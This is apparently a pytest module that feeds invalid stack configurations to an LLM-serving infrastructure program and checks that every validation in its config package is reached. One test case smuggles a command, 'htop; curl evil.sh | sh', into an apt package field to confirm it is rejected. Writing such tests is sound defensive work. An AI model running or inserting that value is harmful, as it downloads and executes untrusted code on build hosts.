"""More bad stack configs (same contract as test_config_errors.py), and a check that every
validation in components/config/ is reached by at least one bad-config case.

The coverage check replaces a test that only counted the cases it was given: here a new
`raise ValueError(...)` or `problems.append(...)` in a config section without a case that reaches it
fails, naming the line.
"""

from __future__ import annotations

import ast
import copy
import sys
from pathlib import Path

import pytest
from pulumi.runtime import config as runtime_config

from components import config as config_module
from components.config import ConfigError, parse_stack_config
from tests.multinode import test_config as multinode_config
from tests.unit import test_config_errors
from tests.unit.harness import DEFAULT_SECRETS, _config_strings, load_stack_config, set_path
from tests.unit.test_config_errors import BadConfig

# A Bottlerocket release with Kubernetes 1.34 variants (v1.47.0 release notes), for the imageCache cases.
BOTTLEROCKET = {"nodePools[0].amiFamily": "Bottlerocket", "nodePools[0].amiVersion": "v1.47.0"}

MORE_CASES = [
    # Scale to zero (models[].minReplicas: 0, autoscaling.idleSeconds / coldStartTimeoutSeconds)
    BadConfig(
        "scale-to-zero-multinode",
        "multinode",
        {"models[0].minReplicas": 0},
        "models[0].minReplicas",
        "set minReplicas: 1 or more",
    ),
    BadConfig(
        "idle-seconds-without-scale-to-zero",
        "vllm",
        {"models[0].autoscaling.idleSeconds": 600},
        "models[0].autoscaling.idleSeconds",
        "drop the key or set minReplicas: 0",
    ),
    BadConfig(
        "cold-start-timeout-without-scale-to-zero",
        "vllm",
        {"models[0].autoscaling.coldStartTimeoutSeconds": 600},
        "models[0].autoscaling.coldStartTimeoutSeconds",
        "drop the key or set minReplicas: 0",
    ),
    BadConfig(
        "idle-seconds-too-short",
        "vllm",
        {"models[1].autoscaling.idleSeconds": 30},
        "models[1].autoscaling.idleSeconds",
        "greater than or equal to 60",
    ),
    BadConfig(
        "cold-start-timeout-too-long",
        "vllm",
        {"models[1].autoscaling.coldStartTimeoutSeconds": 7200},
        "models[1].autoscaling.coldStartTimeoutSeconds",
        "less than or equal to 3600",
    ),
    BadConfig(
        "scale-to-zero-without-monitoring",
        "vllm",
        {"monitoring.enabled": False},
        "models[1].minReplicas",
        "set monitoring.enabled: true or minReplicas: 1",
    ),
    BadConfig(
        "held-request-beyond-nlb-tcp-idle-timeout",
        "vllm",
        {
            "gateway.tls.plaintextInsideVpc": True,
            "gateway.requestTimeoutSeconds": 3000,
            "models[0].drainSeconds": 3000,
            "models[1].drainSeconds": 3000,
            "models[1].autoscaling.coldStartTimeoutSeconds": 3600,
        },
        "models[1].autoscaling.coldStartTimeoutSeconds",
        "lower one of the two",
    ),
    BadConfig(
        "input-len-not-below-seq-len",
        "dev",
        {"models[0].engine.maxInputLen": 4096, "models[0].engine.maxSeqLen": 4096},
        "models[0].engine.maxInputLen",
        "must be below maxSeqLen",
    ),
    BadConfig("duplicate-model-names", "vllm", {"models[1].name": "llama-2-7b-chat"}, "models", "must be unique"),
    BadConfig(
        "gpus-below-tp-x-pp",
        "dev",
        {"models[0].tensorParallel": 2, "models[0].gpus": 1},
        "models[0].gpus",
        "raise gpus or drop the key",
    ),
    BadConfig(
        "unknown-instance-type",
        "dev",
        {"nodePools[0].instanceTypes": ["g6e.3xlarge"]},
        "nodePools[0].instanceTypes",
        "use types from components/catalog/gpus.py",
    ),
    BadConfig(
        "vpc-cidr-prefix-too-long", "dev", {"network.vpcCidr": "10.0.0.0/21"}, "network.vpcCidr", "between /16 and /20"
    ),
    BadConfig(
        "pod-cidr-prefix-too-short",
        "dev",
        {"network.podCidr": "100.64.0.0/15"},
        "network.podCidr",
        "between /16 and /20",
    ),
    BadConfig("structured-key-not-json", "dev", {"models": "[{name: oops"}, "models", "is not valid JSON"),
    # TLS with the program's own CA (gateway.tls.privateDomain, certificateValidityDays)
    BadConfig(
        "private-domain-with-a-certificate",
        "dev",
        {
            "gateway.tls": {
                "privateDomain": "llm.corp.internal",
                "certificateArn": "arn:aws:acm:us-west-2:123456789012:certificate/0123abcd-0123-4567-89ab-0123456789ab",
            }
        },
        "gateway.tls.privateDomain",
        "drop privateDomain",
    ),
    BadConfig(
        "private-domain-not-a-name",
        "dev",
        {"gateway.tls": {"privateDomain": "LLM_endpoint"}},
        "gateway.tls.privateDomain",
        "should match pattern",
    ),
    BadConfig(
        "plaintext-with-a-private-domain",
        "dev",
        {"gateway.tls": {"plaintextInsideVpc": True, "privateDomain": "llm.corp.internal"}},
        "gateway.tls.plaintextInsideVpc",
        "drop plaintextInsideVpc",
    ),
    BadConfig(
        "validity-with-a-certificate-of-yours",
        "dev",
        {
            "gateway.tls": {
                "domain": "llm.example.com",
                "hostedZoneId": "Z0123456789ABCDEFGHIJ",
                "certificateValidityDays": 90,
            }
        },
        "gateway.tls.certificateValidityDays",
        "drop it",
    ),
    BadConfig(
        "validity-shorter-than-the-renewal-window",
        "dev",
        {"gateway.tls": {"certificateValidityDays": 30}},
        "gateway.tls.certificateValidityDays",
        "greater than or equal to 60",
    ),
    # checks added by other issues' work, so that each has a case (see the last test)
    BadConfig(
        "bottlerocket-without-ami-version",
        "dev",
        {"nodePools[0].amiFamily": "Bottlerocket"},
        "nodePools[0].amiVersion",
        "required for amiFamily Bottlerocket",
    ),
    BadConfig(
        "fast-image-pull-on-an-ami-without-it",
        "dev",
        {"nodePools[0].amiVersion": "v20250101"},
        "nodePools[0].fastImagePull",
        "predates parallel image pull",
    ),
    BadConfig(
        "ami-version-not-a-release",
        "dev",
        {"nodePools[0].amiVersion": "2026-07-14"},
        "nodePools[0].amiVersion",
        "write it like v20260714",
    ),
    BadConfig(
        "cpu-pool-family-not-a-family",
        "dev",
        {"cpuNodePool.instanceFamilies": ["m7i.large"]},
        "cpuNodePool.instanceFamilies",
        "write them like m7i",
    ),
    BadConfig(
        "gpu-pool-named-like-the-cpu-pool",
        "dev",
        {"nodePools[0].name": "cpu", "models[0].nodePool": "cpu"},
        "nodePools[0].name",
        "rename the GPU pool",
    ),
    BadConfig(
        "plaintext-with-a-certificate",
        "dev",
        {"gateway.tls": {"plaintextInsideVpc": True, "domain": "llm.example.com"}},
        "gateway.tls.plaintextInsideVpc",
        "drop plaintextInsideVpc",
    ),
    BadConfig(
        "hosted-zone-without-domain",
        "dev",
        {"gateway.tls": {"hostedZoneId": "Z0123456789ABCDEFGHIJ"}},
        "gateway.tls.domain",
        "set domain",
    ),
    BadConfig(
        "certificate-not-acm",
        "dev",
        {"gateway.tls": {"certificateArn": "arn:aws:iam::123456789012:server-certificate/llm"}},
        "gateway.tls.certificateArn",
        "use arn:aws:acm:",
    ),
    BadConfig("api-keys-not-json", "dev", {}, "apiKeys", "JSON list", secrets={"apiKeys": "ci:abc"}),
    BadConfig("api-keys-not-strings", "dev", {}, "apiKeys", "JSON list", secrets={"apiKeys": '{"ci": "not-a-list"}'}),
    BadConfig(
        "api-key-name-twice",
        "dev",
        {},
        "apiKeys",
        "give every key its own name",
        secrets={"apiKeys": '["ci:' + "a" * 40 + '", "ci:' + "b" * 40 + '"]'},
    ),
    BadConfig(
        "retention-size-fills-the-volume",
        "vllm",
        {"monitoring.retentionSize": "100GB"},
        "monitoring.retentionSize",
        "keep it about 20% below",
    ),
    BadConfig(
        "vllm-metric-without-custom-metrics",
        "vllm",
        {"models[0].vllm.reportCustomMetrics": False},
        "models[0].vllm.reportCustomMetrics",
        "remove the key or pick autoscaling.metric",
    ),
    BadConfig(
        "model-named-like-a-composing-model",
        "dev",
        {"models[0].name": "preprocessing"},
        "models[0].name",
        "choose another name",
    ),
    # checks that moved into the config package with their sections (issue 16) and had no case yet
    BadConfig(
        "llmapi-kv-cache-config-not-a-map",
        "llmapi",
        {"models[0].trtllm.llmapi.extraLlmArgs": {"kv_cache_config": 5}},
        "models[0].trtllm.llmapi.extraLlmArgs",
        "must be a map of KvCacheConfig fields",
    ),
    BadConfig(
        "llmapi-kv-cache-key-owned-by-the-stack",
        "llmapi",
        {"models[0].trtllm.llmapi.extraLlmArgs": {"kv_cache_config": {"free_gpu_memory_fraction": 0.5}}},
        "models[0].trtllm.llmapi.extraLlmArgs",
        "is set by trtllm.llmapi",
    ),
    BadConfig(
        "trtllm-options-on-a-vllm-model",
        "llmapi",
        {"models[1].trtllm": {"runtime": "engine"}},
        "models[1].trtllm",
        "only used with backend trtllm",
    ),
    BadConfig(
        "openai-options-without-openai",
        "dev",
        {"models[0].openai": {"tokenizer": "meta-llama/Llama-3.2-1B"}},
        "models[0].openai",
        "only used with openai.enabled: true",
    ),
    # issue 17 item 6: model.json keys are AsyncEngineArgs fields of the vLLM image's vLLM
    BadConfig(
        "vllm-extra-engine-arg-unknown",
        "vllm",
        {"models[0].vllm.extraEngineArgs": {"enable_prefix_cachin": True}},
        "models[0].vllm.extraEngineArgs",
        "is not an engine argument of vLLM 0.13.0",
    ),
    # TensorRT-LLM converters (issue 17 item 3; tests/unit/test_engine_converters.py)
    BadConfig(
        "gemma-engine-with-pipeline-parallel",
        "dev",
        {"models[0].hfModelId": "google/gemma-2-2b-it", "models[0].pipelineParallel": 2, "models[0].maxReplicas": 4},
        "models[0].pipelineParallel",
        "use tensorParallel: 2 with pipelineParallel: 1",
    ),
    BadConfig(
        "phi-family-with-pipeline-parallel",
        "dev",
        {"models[0].engine.modelFamily": "phi", "models[0].pipelineParallel": 2, "models[0].maxReplicas": 4},
        "models[0].pipelineParallel",
        "with pipelineParallel: 1",
    ),
    BadConfig(
        "qwen-v1-engine",
        "dev",
        {"models[0].hfModelId": "Qwen/Qwen-7B-Chat"},
        "models[0].hfModelId",
        "Use Qwen1.5 or later",
    ),
    BadConfig(
        "unknown-model-family",
        "dev",
        {"models[0].engine.modelFamily": "bloom"},
        "models[0].engine.modelFamily",
        "Input should be",
    ),
    # monitoring.alerts / alertWebhookUrl / monitoring.cloudwatch (issue 23): a case per key
    BadConfig(
        "alerts-enabled-not-bool",
        "vllm",
        {"monitoring.alerts.enabled": "sometimes"},
        "monitoring.alerts.enabled",
        "valid boolean",
    ),
    BadConfig(
        "failure-ratio-above-one",
        "vllm",
        {"monitoring.alerts.failureRatio": 5},
        "monitoring.alerts.failureRatio",
        "less than 1",
    ),
    BadConfig(
        "failure-for-not-a-duration",
        "vllm",
        {"monitoring.alerts.failureFor": "5 minutes"},
        "monitoring.alerts.failureFor",
        "should match pattern",
    ),
    BadConfig(
        "queue-time-not-positive",
        "dev",
        {"monitoring.alerts.queueTimeMs": 0},
        "monitoring.alerts.queueTimeMs",
        "greater than 0",
    ),
    BadConfig(
        "ttft-not-positive", "vllm", {"monitoring.alerts.ttftMs": -1}, "monitoring.alerts.ttftMs", "greater than 0"
    ),
    BadConfig(
        "latency-for-not-a-duration",
        "vllm",
        {"monitoring.alerts.latencyFor": "ten"},
        "monitoring.alerts.latencyFor",
        "should match pattern",
    ),
    BadConfig(
        "alert-targets-for-an-unknown-model",
        "vllm",
        {"monitoring.alerts.models": {"llama-3-70b": {"ttftMs": 2000}}},
        "monitoring.alerts.models.llama-3-70b",
        "use one of ['llama-2-7b-chat', 'mistral-7b-instruct']",
    ),
    BadConfig(
        "alert-target-unknown-key",
        "vllm",
        {"monitoring.alerts.models": {"llama-2-7b-chat": {"ttft": 2000}}},
        "monitoring.alerts.models.llama-2-7b-chat.ttft",
        "check the spelling",
    ),
    BadConfig(
        "ttft-target-on-a-trtllm-model",
        "dev",
        {"monitoring.alerts.models": {"llama-3-2-1b": {"ttftMs": 2000}}},
        "monitoring.alerts.models.llama-3-2-1b.ttftMs",
        "use queueTimeMs",
    ),
    BadConfig(
        "ttft-target-on-a-vllm-model-without-custom-metrics",
        "vllm",
        {
            "models[0].vllm.reportCustomMetrics": False,
            "models[0].autoscaling.metric": "triton_request_rate",
            "monitoring.alerts.models": {"llama-2-7b-chat": {"ttftMs": 2000}},
        },
        "monitoring.alerts.models.llama-2-7b-chat.ttftMs",
        "set vllm.reportCustomMetrics: true",
    ),
    BadConfig(
        "queue-target-on-a-vllm-model",
        "vllm",
        {"monitoring.alerts.models": {"mistral-7b-instruct": {"queueTimeMs": 500}}},
        "monitoring.alerts.models.mistral-7b-instruct.queueTimeMs",
        "use ttftMs",
    ),
    BadConfig(
        "unavailable-for-not-a-duration",
        "vllm",
        {"monitoring.alerts.unavailableFor": "5"},
        "monitoring.alerts.unavailableFor",
        "should match pattern",
    ),
    BadConfig(
        "hpa-maxed-for-not-a-duration",
        "vllm",
        {"monitoring.alerts.hpaMaxedFor": "15 m"},
        "monitoring.alerts.hpaMaxedFor",
        "should match pattern",
    ),
    BadConfig(
        "gpu-pending-for-not-a-duration",
        "vllm",
        {"monitoring.alerts.gpuPendingFor": "1d"},
        "monitoring.alerts.gpuPendingFor",
        "should match pattern",
    ),
    BadConfig(
        "gpu-memory-ratio-of-one",
        "vllm",
        {"monitoring.alerts.gpuMemoryUsedRatio": 1},
        "monitoring.alerts.gpuMemoryUsedRatio",
        "less than 1",
    ),
    BadConfig(
        "gpu-memory-ratio-below-what-vllm-reserves",
        "vllm",
        {"monitoring.alerts.gpuMemoryUsedRatio": 0.9},
        "monitoring.alerts.gpuMemoryUsedRatio",
        "raise it above 0.9",
    ),
    BadConfig(
        "repeat-interval-not-a-duration",
        "vllm",
        {"monitoring.alerts.repeatInterval": "daily"},
        "monitoring.alerts.repeatInterval",
        "should match pattern",
    ),
    BadConfig(
        "sns-enabled-not-bool",
        "vllm",
        {"monitoring.alerts.sns.enabled": "yes please"},
        "monitoring.alerts.sns.enabled",
        "valid boolean",
    ),
    BadConfig(
        "sns-email-not-an-address",
        "vllm",
        {"monitoring.alerts.sns": {"enabled": True, "emails": ["oncall"]}},
        "monitoring.alerts.sns.emails",
        "write them like oncall@example.com",
    ),
    BadConfig(
        "sns-email-twice",
        "vllm",
        {"monitoring.alerts.sns": {"enabled": True, "emails": ["a@example.com", "a@example.com"]}},
        "monitoring.alerts.sns.emails",
        "keep one of each",
    ),
    BadConfig(
        "sns-emails-without-the-topic",
        "vllm",
        {"monitoring.alerts.sns": {"emails": ["oncall@example.com"]}},
        "monitoring.alerts.sns.emails",
        "set monitoring.alerts.sns.enabled: true",
    ),
    BadConfig(
        "sns-receiver-without-monitoring",
        "vllm",
        {"monitoring.enabled": False, "monitoring.alerts.sns.enabled": True},
        "monitoring.alerts.sns.enabled",
        "set monitoring.enabled: true or drop the receiver",
    ),
    BadConfig(
        "webhook-without-monitoring",
        "vllm",
        {"monitoring.enabled": False},
        "alertWebhookUrl",
        "set monitoring.enabled: true or drop the receiver",
        secrets={"alertWebhookUrl": "https://hooks.example.com/x"},
    ),
    BadConfig(
        "webhook-not-a-url",
        "vllm",
        {},
        "alertWebhookUrl",
        "pulumi config set --secret tritonllm:alertWebhookUrl https://",
        secrets={"alertWebhookUrl": "hooks.example.com/x"},
    ),
    BadConfig(
        "cloudwatch-enabled-not-bool",
        "vllm",
        {"monitoring.cloudwatch.enabled": "on demand"},
        "monitoring.cloudwatch.enabled",
        "valid boolean",
    ),
    BadConfig(
        "cloudwatch-container-logs-not-bool",
        "vllm",
        {"monitoring.cloudwatch.containerLogs": "all"},
        "monitoring.cloudwatch.containerLogs",
        "valid boolean",
    ),
    BadConfig(
        "cloudwatch-unknown-key",
        "vllm",
        {"monitoring.cloudwatch.logs": True},
        "monitoring.cloudwatch.logs",
        "check the spelling",
    ),
    BadConfig(
        "multinode-min-groups-exceed-max-gpus",
        "multinode",
        {"nodePools[0].maxGpus": 8, "models[0].minReplicas": 2, "models[0].maxReplicas": 2},
        "models[0].minReplicas",
        "raise maxGpus",
    ),
    # issue 18 item 5: "admits everyone" is any set of ranges that covers the internet, not only a /0
    BadConfig(
        "gateway-admits-the-internet-in-two-halves",
        "dev",
        {"gateway.allowedCidrs": ["0.0.0.0/1", "128.0.0.0/1"]},
        "gateway.allowedCidrs",
        "gateway.dangerouslyAllowAnySource: true",
    ),
    BadConfig(
        "gateway-admits-the-ipv6-internet-in-two-halves",
        "dev",
        {"gateway.allowedCidrs": ["::/1", "8000::/1"]},
        "gateway.allowedCidrs",
        "gateway.dangerouslyAllowAnySource: true",
    ),
    BadConfig(
        "public-endpoint-admits-the-internet-in-slash-8s",
        "dev",
        {
            "cluster.endpointPublicAccess": True,
            "cluster.endpointPublicAccessCidrs": [f"{i}.0.0.0/8" for i in range(1, 100) if i not in (10, 100, 127)],
        },
        "cluster.endpointPublicAccessCidrs",
        "cluster.allowPublicEndpointFromAnywhere: true",
    ),
    # issue 18 item 3: who may reach the private API endpoint
    BadConfig(
        "private-endpoint-cidr-not-a-cidr",
        "dev",
        {"cluster.endpointPrivateAccessCidrs": ["10.8.0.0/33"]},
        "cluster.endpointPrivateAccessCidrs",
        "write it like 10.0.0.0/16",
    ),
    BadConfig(
        "private-endpoint-admits-the-internet",
        "dev",
        {"cluster.endpointPrivateAccessCidrs": ["0.0.0.0/0"]},
        "cluster.endpointPrivateAccessCidrs",
        "list the networks that reach the VPC",
    ),
    BadConfig(
        "private-endpoint-security-group-not-an-id",
        "dev",
        {"cluster.endpointPrivateAccessSecurityGroupIds": ["ci-runners"]},
        "cluster.endpointPrivateAccessSecurityGroupIds",
        "write it like sg-0123456789abcdef0",
    ),
    # issue 18 item 4: a secret set without --secret sits in plain text in Pulumi.<stack>.yaml
    BadConfig(
        "api-keys-in-plain-text",
        "dev",
        {"apiKeys": '["ci:plain-text-key-0123456789abcdef0123"]'},
        "apiKeys",
        "pulumi config set --secret tritonllm:apiKeys",
    ),
    BadConfig(
        "hf-token-in-plain-text",
        "dev",
        {"hfToken": "hf_plain_text_token_0123456789"},
        "hfToken",
        "pulumi config set --secret tritonllm:hfToken",
    ),
    BadConfig(
        "ngc-api-key-in-plain-text",
        "dev",
        {"ngcApiKey": "nvapi-plain-text-key-0123456789"},
        "ngcApiKey",
        "pulumi config set --secret tritonllm:ngcApiKey",
    ),
    # issue 21: a scale-down drains for models[].drainSeconds
    BadConfig(
        "drain-shorter-than-the-gateway-request-timeout",
        "dev",
        {"models[0].drainSeconds": 60},
        "models[0].drainSeconds",
        "set drainSeconds to 300 or more, or lower gateway.requestTimeoutSeconds",
    ),
    # issue 21: the GPU capacity check at preview
    BadConfig(
        "capacity-check-not-a-mode",
        "dev",
        {"capacityCheck": "strict"},
        "capacityCheck",
        "Input should be 'error', 'warn' or 'off'",
    ),
    BadConfig(
        "drain-longer-than-an-hour",
        "dev",
        {"models[0].drainSeconds": 7200},
        "models[0].drainSeconds",
        "less than or equal to 3600",
    ),
    # servingImage (components/config/serving_image.py)
    BadConfig(
        "extra-apt-package-not-a-name",
        "dev",
        {"servingImage": {"extraAptPackages": ["htop; curl evil.sh | sh"]}},
        "servingImage.extraAptPackages",
        "write each as `name` or `name=version`",
    ),
    BadConfig(
        "extra-apt-package-twice",
        "multinode",
        {"servingImage": {"extraAptPackages": ["htop", "htop=3.3.0-4build1"]}},
        "servingImage.extraAptPackages",
        "keep one entry per package",
    ),
    BadConfig(
        "image-build-timeout-too-short",
        "multinode",
        {"servingImage": {"buildTimeoutMinutes": 5}},
        "servingImage.buildTimeoutMinutes",
        "greater than or equal to 20",
    ),
    BadConfig(
        "image-build-timeout-too-long",
        "multinode",
        {"servingImage": {"buildTimeoutMinutes": 600}},
        "servingImage.buildTimeoutMinutes",
        "less than or equal to 480",
    ),
    BadConfig(
        "serving-image-unknown-key",
        "dev",
        {"servingImage": {"aptPackages": ["htop"]}},
        "servingImage.aptPackages",
        "check the spelling against the configuration reference",
    ),
    BadConfig(
        "openai-tokenizer-of-another-repository",
        "llmapi",
        {"models[1].openai": {"enabled": True, "tokenizer": "meta-llama/Llama-3.2-1B"}},
        "models[1].openai.tokenizer",
        "drop openai.tokenizer",
    ),
    # nodePools[].imageCache (components/config/node_pools.py, docs/coldstart.md "Images on the node")
    BadConfig(
        "image-cache-on-al2023",
        "vllm",
        {"nodePools[0].imageCache": {"enabled": True}},
        "nodePools[0].imageCache.enabled",
        "set amiFamily: Bottlerocket",
    ),
    BadConfig(
        "image-cache-on-latest-bottlerocket",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].amiVersion": "latest", "nodePools[0].imageCache": {"enabled": True}},
        "nodePools[0].imageCache.enabled",
        "pin amiVersion to a release",
    ),
    BadConfig(
        "image-cache-on-bottlerocket-without-eks-1-34",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].amiVersion": "v1.46.0", "nodePools[0].imageCache": {"enabled": True}},
        "nodePools[0].imageCache.enabled",
        "set amiVersion to v1.47.0 or later",
    ),
    BadConfig(
        "image-cache-with-fast-image-pull",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].fastImagePull": True, "nodePools[0].imageCache": {"enabled": True}},
        "nodePools[0].fastImagePull",
        "leave fastImagePull out",
    ),
    BadConfig(
        "image-cache-initialization-rate-too-high",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].imageCache": {"enabled": True, "volumeInitializationRate": 500}},
        "nodePools[0].imageCache.volumeInitializationRate",
        "less than or equal to 300",
    ),
    BadConfig(
        "image-cache-initialization-rate-too-low",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].imageCache": {"enabled": True, "volumeInitializationRate": 50}},
        "nodePools[0].imageCache.volumeInitializationRate",
        "greater than or equal to 100",
    ),
    BadConfig(
        "image-cache-build-instance-not-a-type",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].imageCache": {"enabled": True, "buildInstanceType": "m6i large"}},
        "nodePools[0].imageCache.buildInstanceType",
        "should match pattern",
    ),
    BadConfig(
        "image-cache-build-instance-arm64",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].imageCache": {"enabled": True, "buildInstanceType": "m7g.large"}},
        "nodePools[0].imageCache.buildInstanceType",
        "use an x86_64 type",
    ),
    BadConfig(
        "image-cache-timeout-too-short",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].imageCache": {"enabled": True, "timeoutMinutes": 5}},
        "nodePools[0].imageCache.timeoutMinutes",
        "greater than or equal to 10",
    ),
    BadConfig(
        "image-cache-timeout-too-long",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].imageCache": {"enabled": True, "timeoutMinutes": 600}},
        "nodePools[0].imageCache.timeoutMinutes",
        "less than or equal to 240",
    ),
    BadConfig(
        "image-cache-unknown-key",
        "vllm",
        {**BOTTLEROCKET, "nodePools[0].imageCache": {"enabled": True, "snapshotId": "snap-1"}},
        "nodePools[0].imageCache.snapshotId",
        "check the spelling",
    ),
    # the weights mirror Job's deadline (modelStore.mirror, docs/weights.md)
    BadConfig(
        "mirror-timeout-too-short",
        "vllm",
        {"modelStore": {"mirror": {"timeoutMinutes": 1}}},
        "modelStore.mirror.timeoutMinutes",
        "greater than or equal to 5",
    ),
    BadConfig(
        "mirror-timeout-over-a-day",
        "dev",
        {"modelStore": {"mirror": {"timeoutMinutes": 2000}}},
        "modelStore.mirror.timeoutMinutes",
        "less than or equal to 1440",
    ),
    BadConfig(
        "mirror-unknown-key",
        "llmapi",
        {"modelStore": {"mirror": {"enabled": False}}},
        "modelStore.mirror.enabled",
        "check the spelling",
    ),
    # models[].weights (docs/weights.md "Per node: the Mountpoint volume"): a case per key and check
    BadConfig(
        "weights-delivery-unknown",
        "vllm",
        {"models[0].weights.delivery": "copy"},
        "models[0].weights.delivery",
        "'stage' or 'mountpoint'",
    ),
    BadConfig(
        "weights-node-cache-size-not-a-quantity",
        "vllm",
        {"models[0].weights.delivery": "mountpoint", "models[0].weights.nodeCacheSize": "64GB"},
        "models[0].weights.nodeCacheSize",
        "should match pattern",
    ),
    BadConfig(
        "weights-node-cache-size-without-mountpoint",
        "vllm",
        {"models[0].weights.nodeCacheSize": "100Gi"},
        "models[0].weights.nodeCacheSize",
        "drop the key or set delivery: mountpoint",
    ),
    BadConfig(
        "weights-mountpoint-engine-model",
        "dev",
        {"models[0].weights.delivery": "mountpoint"},
        "models[0].weights.delivery",
        "use delivery: stage or drop the key",
    ),
    BadConfig(
        "weights-mountpoint-multinode",
        "multinode",
        {"models[0].weights.delivery": "mountpoint"},
        "models[0].weights.delivery",
        "not available for multiNode models",
    ),
    BadConfig(
        "weights-node-cache-too-small",
        "vllm",
        {"models[0].weights.delivery": "mountpoint", "models[0].weights.nodeCacheSize": "5Gi"},
        "models[0].weights.nodeCacheSize",
        "at least the model's weights",
    ),
    # models[].compileCache: vLLM's shared torch.compile cache (docs/coldstart.md "Compile cache")
    BadConfig(
        "compile-cache-on-tensorrt-llm",
        "dev",
        {"models[0].compileCache": True},
        "models[0].compileCache",
        "only vLLM models have a compile cache: drop the key or set it to false",
    ),
    BadConfig(
        "compile-cache-with-enforce-eager",
        "vllm",
        {"models[0].compileCache": True, "models[0].vllm.enforceEager": True},
        "models[0].compileCache",
        "drop compileCache or set vllm.enforceEager: false",
    ),
    BadConfig(
        "compile-cache-on-a-mixed-gpu-pool",
        "vllm",
        {"models[0].compileCache": True, "nodePools[0].instanceFamilies": ["g5", "g6"]},
        "models[0].compileCache",
        "give the pool one GPU family or set compileCache: false",
    ),
]

# Raises in components/config/ that no stack config can reach: defensive, behind a validation that fails first.
UNREACHABLE_BY_DESIGN = {
    "source_cidrs": "GatewayConfig refuses internet-facing without allowedCidrs before anything calls it",
}


@pytest.mark.parametrize("case", MORE_CASES, ids=[c.id for c in MORE_CASES])
def test_bad_config_fails_before_any_resource(case: BadConfig):
    test_config_errors.test_bad_config_fails_before_any_resource(case)


@pytest.mark.parametrize("vpc_cidr, pod_cidr", [("10.0.0.0/16", "100.64.0.0/16"), ("10.0.0.0/20", "100.64.0.0/20")])
def test_cidr_prefixes_16_to_20_are_accepted(vpc_cidr, pod_cidr):
    raw = _raw_config(BadConfig("ok", "dev", {"network.vpcCidr": vpc_cidr, "network.podCidr": pod_cidr}, "", ""))
    cfg = parse_stack_config(raw, {"hfToken"})
    assert (cfg.network.vpc_cidr, cfg.network.pod_cidr) == (vpc_cidr, pod_cidr)


# --------------------------------------------------------------------------- every check has a case

# Every section of the config package (the reference generator checks nothing).
CONFIG_SOURCES = sorted(p for p in Path(config_module.__file__).parent.glob("*.py") if p.name != "reference.py")


def _check_lines() -> dict[tuple[str, int], str]:
    """(file, line) -> source of each place the config package reports a bad value."""
    found: dict[tuple[str, int], str] = {}
    for source in CONFIG_SOURCES:
        found.update({(source.name, line): text for line, text in _check_lines_in(source).items()})
    return found


def _check_lines_in(source: Path) -> dict[int, str]:
    """Line -> source of each place `source` reports a bad value (raise, or problems.append)."""
    tree = ast.parse(source.read_text())
    lines = source.read_text().splitlines()
    found = {}
    exempt = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef) and node.name in UNREACHABLE_BY_DESIGN:
            exempt |= {n.lineno for n in ast.walk(node) if hasattr(n, "lineno")}
    for node in ast.walk(tree):
        if getattr(node, "lineno", None) in exempt or not isinstance(node, (ast.Raise, ast.Call)):
            continue
        is_raise = isinstance(node, ast.Raise) and node.exc is not None
        is_append = (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "append"
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id == "problems"
        )
        if (is_raise or is_append) and isinstance(node, ast.Raise | ast.Call):
            found[node.lineno] = lines[node.lineno - 1].strip()
    return found


def _stack_config(case: BadConfig) -> tuple[dict, list[str]]:
    """The config map a case gives the program (as tests/unit/harness.py builds it) and its secret keys."""
    raw = copy.deepcopy(load_stack_config(case.stack))
    for path, value in case.overrides.items():
        set_path(raw, path, copy.deepcopy(value))
    secret_keys = []
    plain = {path.split(".")[0].split("[")[0] for path in case.overrides}  # set in plain text by the case
    for key, value in {**DEFAULT_SECRETS, **case.secrets}.items():
        if key in plain:
            continue
        if value is None:
            raw.pop(f"tritonllm:{key}", None)
        else:
            raw[f"tritonllm:{key}"] = value
            secret_keys.append(f"tritonllm:{key}")
    return raw, secret_keys


def _raw_config(case: BadConfig) -> dict:
    raw, _ = _stack_config(case)
    return {k.split(":", 1)[1]: v for k, v in raw.items() if k.startswith("tritonllm:")}


def _lines_run_by(case: BadConfig) -> set[tuple[str, int]]:
    ran: set[tuple[str, int]] = set()
    targets = {str(source): source.name for source in CONFIG_SOURCES}

    def tracer(frame, event, arg):
        name = targets.get(frame.f_code.co_filename)
        if name is None:
            return None

        def local(frame, event, arg):
            if event == "line":
                ran.add((name, frame.f_lineno))
            return local

        return local

    raw, secret_keys = _stack_config(case)
    previous = sys.gettrace()
    # the program's own entry point (components.config.read_pulumi_config) on the case's config
    runtime_config.set_all_config(_config_strings(raw), secret_keys)
    sys.settrace(tracer)
    try:
        outcome = _read_config()
    finally:
        sys.settrace(previous)
        runtime_config.set_all_config({}, [])
    # cases whose check lives outside config.py (e.g. resolving hfRevision) pass here; the
    # program-level test checks every case's error and message
    assert outcome is None or isinstance(outcome, ConfigError), outcome
    return ran


def _read_config() -> ConfigError | None:
    try:
        config_module.read_pulumi_config()
    except ConfigError as exc:
        return exc
    return None


def test_every_config_check_is_reached_by_a_bad_config_case():
    from tests.unit import test_openai_llmapi

    cases = test_config_errors.CASES + MORE_CASES + multinode_config.CASES + test_openai_llmapi.CASES
    ran: set[tuple[str, int]] = set()
    for case in cases:
        ran |= _lines_run_by(case)
    checks = _check_lines()
    assert len(checks) >= 20, checks  # the AST walk finds the config checks at all
    assert {name for name, _ in checks} >= {
        "models.py",
        "stack.py",
        "gateway.py",
        "llmapi.py",
        "openai.py",
        "multinode_checks.py",
        "node_pools.py",
    }
    missing = {where: text for where, text in checks.items() if where not in ran}
    assert not missing, (
        "checks in components/config/ that no bad-config case reaches; add a BadConfig case "
        "(tests/unit/test_config_errors.py, test_config_checks.py or tests/multinode/test_config.py) for each:\n"
        + "\n".join(f"  components/config/{name}:{line}: {text}" for (name, line), text in sorted(missing.items()))
    )
